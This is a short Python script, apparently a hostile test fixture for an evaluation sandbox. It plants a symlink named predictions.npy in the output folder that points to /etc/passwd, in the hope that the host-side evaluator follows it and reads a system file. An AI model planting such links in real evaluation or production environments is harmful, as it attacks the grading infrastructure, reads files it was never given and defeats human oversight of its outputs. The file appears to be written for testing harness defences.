"""Hostile: leave predictions.npy as a symlink, hoping the evaluator follows it on the host."""

import os

os.symlink("/etc/passwd", "/output/predictions.npy")
print("planted symlink")
